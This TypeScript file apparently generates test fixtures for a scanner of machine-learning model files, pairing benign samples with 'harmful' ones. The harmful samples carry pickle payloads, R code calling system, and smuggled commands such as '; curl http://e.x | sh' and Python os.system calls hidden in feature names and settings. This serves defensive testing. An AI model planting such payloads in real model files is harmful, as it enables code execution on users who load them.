import type { Table } from '../flatbuffers-builder';
import { flatbuffer, scalar, table } from '../flatbuffers-builder';
import { be32, bytes, floats, u16, u32, u64, utf8, zeros } from '../bytes';
import { PAYLOAD, proto } from '../pickle-assembler';
import { closure, language, numbers, rds, promise, symbol, words, workspace } from '../r-builder';
import type { MadeCase } from './made-case';
import { casesOf } from './made-case';

/** A value behind its length, as LZMA2 that packs nothing. */
const rdbValue = (value: Uint8Array): Uint8Array =>
  bytes(be32(value.length), 'Z', 1, [(value.length - 1) >> 8, (value.length - 1) & 0xff], value, 0);
const RUN = language(symbol('system'), words('echo hi'));

/** A key or text of UBJSON, and a list of bytes. */
const ubText = (text: string): Uint8Array => bytes('L', zeros(7), text.length, text);
const ubModel = (name: string): Uint8Array =>
  bytes(
    '{',
    ubText('learner'),
    '{',
    ubText('feature_names'),
    '[S',
    ubText(name),
    ']',
    ubText('w'),
    '[$U#i\x03abc',
    '}}'
  );

/** Parts of Tesseract, two of which are there. */
const traineddata = (part: Uint8Array): Uint8Array =>
  bytes(u32(24), u64(196), u64(228), zeros(22 * 8).fill(255), floats(8), part);

const BINARY_MODEL = bytes(
  zeros(136),
  ...['reg:linear', 'gblinear'].map(name => bytes(u64(name.length), name)),
  zeros(136),
  u64(2),
  floats(2)
);
const LIGHTGBM =
  'tree\nversion=v4\nnum_class=1\nfeature_names=a b\n\nTree=0\nnum_leaves=1\nleaf_value=0.5\n\n\nend of trees\n';

const setting = (key: string, value: string): Table => table(key, value);
const catboost = (value: string): Uint8Array => {
  const core = flatbuffer(
    '\0\0\0\0',
    table('FlabuffersModel_v1', table(), [setting('params', value)], ['text_process_v2'])
  );
  return bytes('CBM1', u32(core.length), core, zeros(16));
};

const short = (text: string): Uint8Array => bytes(0xa0 + text.length, text);
const binary = (data: Uint8Array): Uint8Array => bytes(0xc4, data.length, data);
/** What Flax saves: a name and an array, which is a value of a type of its own. */
const flax = (data: Uint8Array): Uint8Array => {
  const array = bytes(0x93, 0x91, 2, short('float32'), binary(data));
  return bytes(0x81, short('kernel'), 0xc7, array.length, 1, array);
};
const zarray = (filters: unknown): Uint8Array =>
  utf8(JSON.stringify({ chunks: [5], compressor: null, dtype: '|O', filters, shape: [5], zarr_format: 2 }));

/** A program of one tensor without dimensions, whose number is the first constant. */
const program = (constant: number): Uint8Array => {
  const tensor = table(scalar(1, 6), undefined, undefined, undefined, undefined, scalar(4, constant));
  const plan = table('forward', undefined, [table(scalar(1, 5), tensor)], undefined, undefined, [], [], []);
  return flatbuffer('ET12', table(scalar(4, 0), [plan], [table(), table(zeros(4))]));
};

const vectors = bytes(
  u32(1),
  u32(1),
  u32(0),
  u64(1),
  u64(0),
  'the\0',
  u64(5),
  0,
  ...[0, 0].map(() => bytes(0, u64(1), u64(2), floats(2)))
);
const fastText = bytes(u32(793712314), u32(12), zeros(56), vectors);
const tensor16 = (name: string): Uint8Array => bytes(name.length, 0, name);
const ctranslate2 = bytes(
  u32(6),
  tensor16('TransformerSpec\0'),
  u32(7),
  u32(1),
  tensor16('w\0'),
  1,
  u32(2),
  0,
  u32(8),
  floats(2),
  u32(0)
);
const crf = (offset: number): Uint8Array =>
  bytes('lCRF', u32(80), 'FOMC', u32(100), zeros(12), ...[48, 50, 60, 70, offset].map(u32), zeros(32));
const hnsw = bytes(u64(0), u64(10), u64(2), u64(24), u64(16), u64(8), zeros(96), u32(0), u32(0));
const faiss = (...inside: readonly Uint8Array[]): Uint8Array =>
  bytes('IxF2', u32(16), u64(1), u64(2 ** 20), u64(2 ** 20), 1, u32(1), ...inside, floats(16));
const PICKLE = proto(2, PAYLOAD);
const engine = (machine: number): Uint8Array =>
  bytes('ftrt', zeros(60), '\x7fELF\x02\x01\x01', zeros(11), machine, 0, zeros(64));

/** A format that its header tells: with numbers behind it, and with a pickle. */
const headed = (format: string, file: string, header: Uint8Array): readonly MadeCase[] =>
  casesOf(format, {
    [file]: bytes(header, floats(32)),
    [`harmful-${file}`]: bytes(header, floats(2), PICKLE, zeros((4 - ((header.length + PICKLE.length) % 4)) % 4))
  });

/** Models that are mostly numbers. */
export const tabular: readonly MadeCase[] = [
  ...casesOf('msgpack', { 'flax.msgpack': flax(floats(2)), 'harmful-pickle.msgpack': flax(PICKLE) }),
  ...casesOf('zarr', {
    'texts.zarray': zarray([{ id: 'vlen-utf8' }]),
    'harmful-pickles.zarray': zarray([{ id: 'pickle', protocol: 5 }])
  }),
  ...casesOf('orbax', {
    _METADATA: utf8('{"tree_metadata":{},"use_ocdbt":true}'),
    callable_METADATA: utf8('{"item_handlers":"subprocess.Popen"}')
  }),
  ...headed('ocdbt', 'manifest.ocdbt', bytes(0x0c, 0xdb, 0x3a, 0x2a, u64(16))),
  ...headed('dlib', 'network.dat', bytes(1, 1, 1, 13, 'loss_metric_2')),
  ...headed('kaldi', 'final.mdl', bytes('\0B<TransitionModel> ')),
  ...headed('openfst', 'HCLr.fst', bytes(0xd6, 0xfd, 0xb2, 0x7e, u32(6), 'vector')),
  ...headed('picovoice', 'porcupine_params.pv', bytes('porcupine4.0.0')),
  ...headed('hailo', 'header.hef', bytes('\x01HEF')),
  ...headed('darknet', 'yolo.weights', bytes(u32(0), u32(2), u32(0), u64(64))),
  ...headed('mnn', 'model.mnn', flatbuffer('\0\0\0\0', table('net'))),
  ...headed('vowpal-wabbit', 'model.vw', bytes(u32(7), '8.11.0\0')),
  ...headed('matlab', 'arrays.mat', bytes('MATLAB 5.0 MAT-file'.padEnd(124), 0, 1, 'IM')),
  ...casesOf('blosc', { '0.0': bytes(2, 1, 0x33, 4, u32(8), u32(8), u32(24), zeros(8)) }),
  ...casesOf('executorch', { 'constant.pte': program(1), 'constant-missing.pte': program(9) }),
  ...casesOf('flat-tensor', {
    'weights.ptd': flatbuffer(
      'FT01',
      table(scalar(4, 0), [table(scalar(8, 0), scalar(8, 4))], [table('w', scalar(4, 0))])
    ),
    'segment-missing.ptd': flatbuffer('FT01', table(scalar(4, 0), [], [table('w', scalar(4, 7))]))
  }),
  ...casesOf('fasttext', { 'one-word.bin': fastText, 'harmful-pickle-behind.bin': bytes(fastText, PICKLE) }),
  ...casesOf('ctranslate2', { 'one-tensor.bin': ctranslate2, 'harmful-pickle-behind.bin': bytes(ctranslate2, PICKLE) }),
  ...casesOf('crfsuite', { 'model.crfsuite': crf(48), 'offset-outside.crfsuite': crf(4000) }),
  ...casesOf('hnswlib', { 'two-elements.bin': hnsw, 'harmful-pickle-behind.bin': bytes(hnsw, PICKLE) }),
  ...casesOf('tesseract', {
    'two-parts.traineddata': traineddata(utf8('tessedit_pageseg_mode 3\n')),
    'harmful-pickle.traineddata': traineddata(PICKLE)
  }),
  ...casesOf('mecab', {
    'matrix.bin': bytes(u16(4), u16(32), zeros(256)),
    'harmful-pickle-matrix.bin': bytes(u16(4), u16(32), PICKLE, zeros(256 - PICKLE.length))
  }),
  ...casesOf('word2vec-binary', {
    'two-words.bin': bytes('2 2\n', 'a ', floats(2), 'b ', floats(2)),
    'harmful-pickle-behind.bin': bytes('1 2\n', 'a ', floats(2), PICKLE)
  }),
  ...casesOf('faiss', { 'flat.index': faiss(), 'harmful-pickle.index': faiss(PICKLE) }),
  ...casesOf('glove', { 'two-words.txt': utf8(['the', 'of'].map(word => `${word}${' 0.5'.repeat(9)}\n`).join('')) }),
  ...casesOf('libsvm', {
    'classifier.model': utf8('svm_type c_svc\nkernel_type linear\nnr_class 2\ntotal_sv 1\nSV\n1 1:1\n'),
    'command.model': utf8('svm_type c_svc\nkernel_type linear\n$(curl http://e.x/p)\nSV\n1 1:1\n')
  }),
  ...casesOf('ncnn', { 'model.param': utf8('7767517\n1 1\nInput data 0 1 data 0=3\n') }),
  ...casesOf('tensorrt', { 'gpu-code.engine': engine(190), 'harmful-library.engine': engine(62) }),
  ...casesOf('rknn', { 'header.rknn': bytes('RKNN', zeros(60)), 'harmful-pickle-behind.rknn': bytes('RKNN', PICKLE) }),
  ...casesOf('raw-tensor', {
    'weight.bin': floats(400),
    'harmful-pickle-behind.onnx.data': bytes(floats(400), PICKLE)
  }),
  ...casesOf('xgboost-json', {
    'model.json': utf8(
      '{"learner":{"feature_names":["a"],"learner_model_param":{"base_score":"5E-1"}},"version":[3,0,0]}'
    ),
    'command-as-name.json': utf8('{"learner":{"feature_names":["; curl http://e.x | sh"]},"version":[3,0,0]}')
  }),
  ...casesOf('catboost-json', {
    'model.json': utf8('{"features_info":{"float_features":[]},"oblivious_trees":[]}'),
    'code-as-setting.json': utf8('{"model_info":{"params":"__import__(\'os\').system(\'id\')"},"oblivious_trees":[]}')
  }),
  ...casesOf('ubjson', {
    'model.ubj': ubModel('a'),
    'code-as-name.ubj': ubModel("__import__('os').system('id')"),
    'harmful-pickle-behind.ubj': bytes(ubModel('a'), proto(2, PAYLOAD))
  }),
  ...casesOf('xgboost-binary', {
    'linear.model': BINARY_MODEL,
    'harmful-pickle-behind.model': bytes('binf', BINARY_MODEL, proto(2, PAYLOAD))
  }),
  ...casesOf('lightgbm', {
    'model.txt': utf8(LIGHTGBM),
    'code-as-setting.txt': utf8(`${LIGHTGBM}\nparameters:\n[data: x; curl http://e.x | sh]\n\nend of parameters\n`)
  }),
  ...casesOf('catboost', {
    'model.cbm': catboost('{}'),
    'code-as-setting.cbm': catboost("import os; os.system('id')")
  }),
  ...casesOf('r-data', {
    'workspace.rdata': workspace({ x: numbers(1, 2), call: language(symbol('lm'), symbol('x')) }),
    'harmful-promise.rds': rds(promise(RUN)),
    'harmful-function.rda': workspace({ predict: closure(RUN) })
  }),
  ...casesOf('r-database', {
    'values.rdb': bytes(rdbValue(rds(numbers(1, 2))), rdbValue(rds(words('a')))),
    'harmful-promise.rdb': bytes(rdbValue(rds(numbers(1, 2))), rdbValue(rds(promise(RUN))))
  })
];
